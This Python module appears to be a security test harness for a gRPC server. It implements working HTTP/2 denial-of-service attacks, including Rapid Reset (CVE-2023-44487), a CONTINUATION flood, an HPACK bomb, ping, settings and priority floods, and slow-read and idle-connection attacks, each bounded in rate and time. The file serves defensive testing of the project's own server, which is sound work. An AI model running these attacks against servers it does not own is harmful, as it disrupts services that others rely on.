"""Attacks on a gRPC server, each in a process of its own and bounded in time: see --help.

An attacker keeps within its rate and its niceness, so that its cost is the time that the server spends on it. It stops
after its time, or when its parent ends.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from specd.v1.generation_pb2 import GenerateRequest
from specd.v1.target_pb2 import VerifyRequest
from tests.security.http2 import Connection, call_headers, connect, encoded, headers_frame, with_length

GENERATE = "/specd.v1.GenerationService/Generate"
VERIFY = "/specd.v1.TargetService/Verify"
_LONG = GenerateRequest(text="class Stack:\n    def", max_tokens=400).SerializeToString()
_SHORT = GenerateRequest(text="import", max_tokens=4).SerializeToString()
_VERIFY = VerifyRequest(round=1, token_ids=range(1, 200), proposal=[5] * 4).SerializeToString()
_BATCH = 50  # frames a write


@dataclass
class Attacker:
    """One of the connections of an attack: where it goes, its share of the rate, and what it has done."""

    address: str
    operations_per_second: float
    token: str = ""
    num_operations: int = 0
    num_connections: int = 0
    _began_at: float = field(default_factory=time.monotonic)
    _connections: list[Connection] = field(default_factory=list)

    @property
    def metadata(self) -> list[tuple[str, str]]:
        """The metadata of its calls: who it says it is."""
        return [("authorization", f"Bearer {self.token}")] if self.token else []

    async def connect(self, *, window: int = 2**16 - 1, shakes_hands: bool = True) -> Connection:
        """Open a connection."""
        self.num_connections += 1
        if shakes_hands:
            connection = await Connection.open(self.address, window=window)
        else:
            connection = Connection(*await connect(self.address))
        self._connections.append(connection)
        return connection

    def close(self) -> None:
        """Close all connections, without a word."""
        for connection in self._connections:
            connection.close()
        self._connections.clear()

    async def pace(self, num_operations: int = _BATCH) -> None:
        """Wait until this number of further operations keeps within the rate."""
        self.num_operations += num_operations
        due_at = self._began_at + self.num_operations / self.operations_per_second
        await asyncio.sleep(max(due_at - time.monotonic(), 0))


async def rapid_reset(attacker: Attacker, path: str = GENERATE, message: bytes = _SHORT) -> None:
    """Begin calls and cancel each at once (CVE-2023-44487)."""
    connection = await attacker.connect()
    block = encoded(call_headers(path, attacker.metadata))
    for first in range(1, 2**31, 2 * _BATCH):
        await attacker.pace()
        frames: list[Frame] = []
        for stream_id in range(first, first + 2 * _BATCH, 2):
            frames += [
                headers_frame(stream_id, block, "END_HEADERS"),
                DataFrame(stream_id, with_length(message), flags=["END_STREAM"]),
                RstStreamFrame(stream_id, error_code=8),
            ]
        await connection.send_frames(*frames)


async def rapid_reset_verify(attacker: Attacker) -> None:
    """Begin calls of a target and cancel each at once."""
    await rapid_reset(attacker, VERIFY, _VERIFY)


async def continuation_flood(attacker: Attacker) -> None:
    """Send headers that never end (CVE-2024-27316)."""
    connection = await attacker.connect()
    await connection.send_frames(headers_frame(1, encoded(call_headers(GENERATE, attacker.metadata))))
    block = encoded([("x-filler", "v" * 1000)])
    while True:
        await attacker.pace(16)
        await connection.send_frames(*[ContinuationFrame(1, block) for _ in range(16)])


async def hpack_bomb(attacker: Attacker) -> None:
    """Put a header of 4 KiB into the table once, and name it in one byte 4000 times a call."""
    connection = await attacker.connect()
    insert = b"\x40\x01x" + b"\x7f" + bytes([0x80 | ((3900 - 127) & 0x7F), (3900 - 127) >> 7]) + b"v" * 3900
    block = encoded(call_headers(GENERATE, attacker.metadata)) + insert + b"\xbe" * 4000
    for stream_id in range(1, 2**31, 2):
        await attacker.pace(1)
        await connection.send_frames(
            headers_frame(stream_id, block, "END_HEADERS"),
            DataFrame(stream_id, with_length(_SHORT), flags=["END_STREAM"]),
        )


async def large_metadata(attacker: Attacker) -> None:
    """Send 1 MiB of metadata with each call, before the server's limit is acknowledged."""
    block = encoded([*call_headers(GENERATE, attacker.metadata), ("x-filler", "v" * 2**20)])
    chunks = [block[at : at + 2**14] for at in range(0, len(block), 2**14)]
    connection = await attacker.connect()
    for stream_id in range(1, 2**31, 2):
        await attacker.pace(1)
        await connection.send_frames(
            headers_frame(stream_id, chunks[0]),
            *[ContinuationFrame(stream_id, chunk) for chunk in chunks[1:-1]],
            ContinuationFrame(stream_id, chunks[-1], flags=["END_HEADERS"]),
            DataFrame(stream_id, with_length(_SHORT), flags=["END_STREAM"]),
        )


async def _flood(attacker: Attacker, frame: Callable[[int], Frame]) -> None:
    """Send frames of one kind, and read no answers."""
    connection = await attacker.connect()
    number = 0
    while True:
        await attacker.pace()
        await connection.send_frames(*[frame(number + i) for i in range(_BATCH)])
        number += _BATCH


async def ping_flood(attacker: Attacker) -> None:
    """Ask for answers that are never read (CVE-2019-9512)."""
    await _flood(attacker, lambda number: PingFrame(0, number.to_bytes(8, "big")))


async def settings_flood(attacker: Attacker) -> None:
    """Change the settings for ever (CVE-2019-9515)."""
    await _flood(attacker, lambda number: SettingsFrame(0, settings={4: 2**16 + number % 2}))


async def priority_flood(attacker: Attacker) -> None:
    """Reorder streams for ever (CVE-2019-9513)."""
    await _flood(attacker, lambda number: PriorityFrame(2 * (number % 1000) + 1, depends_on=0, stream_weight=7))


async def window_flood(attacker: Attacker) -> None:
    """Widen the window of a connection, a byte at a time."""
    await _flood(attacker, lambda number: WindowUpdateFrame(0, window_increment=1))


async def empty_data_flood(attacker: Attacker) -> None:
    """Send DATA frames with nothing in them on a call that does not end (CVE-2019-9518)."""
    connection = await attacker.connect()
    await connection.send_frames(headers_frame(1, encoded(call_headers(GENERATE, attacker.metadata)), "END_HEADERS"))
    while True:
        await attacker.pace()
        await connection.send_frames(*[DataFrame(1, b"") for _ in range(_BATCH)])


async def _read_slowly(attacker: Attacker, path: str, message: bytes, window: int) -> None:
    """Begin calls on one connection, and let the server send `window` bytes of each answer, and then a byte a time."""
    connection = await attacker.connect(window=window)
    streams = []
    for _ in range(20):
        await attacker.pace(1)
        streams.append(connection.begin(path, message, metadata=attacker.metadata, end=path == GENERATE))
        await connection.flush()
    while True:
        await attacker.pace(1)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(0.05):
                await connection.receive()
        if window:
            for stream_id in streams:
                with contextlib.suppress(Exception):  # it has ended
                    connection.h2.increment_flow_control_window(1, stream_id)
            await connection.flush()


async def zero_window_generate(attacker: Attacker) -> None:
    """Ask for long answers, and take none of them."""
    await _read_slowly(attacker, GENERATE, _LONG, 0)


async def one_byte_generate(attacker: Attacker) -> None:
    """Ask for long answers, and take a byte at a time."""
    await _read_slowly(attacker, GENERATE, _LONG, 1)


async def zero_window_verify(attacker: Attacker) -> None:
    """Ask a target for verdicts, and take none."""
    await _read_slowly(attacker, VERIFY, _VERIFY, 0)


async def one_byte_verify(attacker: Attacker) -> None:
    """Ask a target for verdicts, and take a byte at a time."""
    await _read_slowly(attacker, VERIFY, _VERIFY, 1)


async def idle_connections(attacker: Attacker) -> None:
    """Open connections and do nothing with them: of three, one says nothing, one shakes hands, one begins a call."""
    for number in range(300):
        await attacker.pace(1)
        connection = await attacker.connect(shakes_hands=number % 3 > 0)
        if number % 3 == 2:
            connection.begin(GENERATE, metadata=attacker.metadata, end=False)
            await connection.flush()
    await asyncio.sleep(3600)


async def idle_streams(attacker: Attacker) -> None:
    """Begin calls on one connection that never send their request."""
    connection = await attacker.connect()
    block = encoded(call_headers(GENERATE, attacker.metadata))
    for first in range(1, 2**31, 2 * _BATCH):
        await attacker.pace()
        streams = range(first, first + 2 * _BATCH, 2)
        await connection.send_frames(*[headers_frame(stream_id, block, "END_HEADERS") for stream_id in streams])


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        rapid_reset_verify,
        continuation_flood,
        hpack_bomb,
        large_metadata,
        ping_flood,
        settings_flood,
        priority_flood,
        window_flood,
        empty_data_flood,
        zero_window_generate,
        one_byte_generate,
        zero_window_verify,
        one_byte_verify,
        idle_connections,
        idle_streams,
    )
}


@dataclass(frozen=True)
class Outcome:
    """The size of an attack: its operations, its connections, and its seconds."""

    num_operations: int
    num_connections: int
    seconds: float


async def attack(name: str, address: str, *, connections: int, rate: float, seconds: float, token: str = "") -> Outcome:
    """Attack for some seconds or until SIGTERM, over connections that share a rate; closed ones are reopened."""

    async def keep_attacking(attacker: Attacker) -> None:
        while True:
            with contextlib.suppress(OSError):
                await ATTACKS[name](attacker)
            attacker.close()
            await asyncio.sleep(0.05)

    attackers = [Attacker(address, rate / connections, token) for _ in range(connections)]
    loop = asyncio.get_running_loop()
    began_at = time.monotonic()
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds) as limit, asyncio.TaskGroup() as group:
            loop.add_signal_handler(signal.SIGTERM, lambda: limit.reschedule(loop.time()))
            for attacker in attackers:
                group.create_task(keep_attacking(attacker))
            print("attacking", flush=True)
    return Outcome(
        sum(attacker.num_operations for attacker in attackers),
        sum(attacker.num_connections for attacker in attackers),
        time.monotonic() - began_at,
    )


@contextlib.asynccontextmanager
async def attacking(
    name: str, address: str, *, connections: int = 8, rate: float = 1000, seconds: float = 60, token: str = ""
) -> AsyncIterator[list[Outcome]]:
    """Attack from another process for the length of a block; the list has the outcome afterwards.

    The calls carry `token`, if there is one.
    """
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "tests.security.attacks", name, address),
        *("--connections", str(connections), "--rate", str(rate), "--seconds", str(seconds)),
        *("--token", token),
        stdout=asyncio.subprocess.PIPE,
        cwd=Path(__file__).parents[2],
    )
    assert process.stdout is not None
    outcomes: list[Outcome] = []
    try:
        assert await process.stdout.readline() == b"attacking\n"
        yield outcomes
    finally:
        with contextlib.suppress(ProcessLookupError):
            process.terminate()
        if rest := await process.stdout.read():
            outcomes.append(Outcome(**json.loads(rest)))
        await process.wait()


def main() -> None:
    """Attack from the command line; print the outcome as JSON."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address", help="HOST:PORT or unix:PATH of a server of yours.")
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--rate", type=float, default=1000, help="Operations a second. (default: 1000)")
    parser.add_argument("--seconds", type=float, default=10, help="Duration. (default: 10)")
    parser.add_argument("--token", default="", help="Token of the calls. (default: no token)")
    options = parser.parse_args()
    os.nice(10)
    outcome = asyncio.run(
        attack(
            options.name,
            options.address,
            connections=options.connections,
            rate=options.rate,
            seconds=options.seconds,
            token=options.token,
        )
    )
    print(json.dumps(asdict(outcome)))


if __name__ == "__main__":
    main()
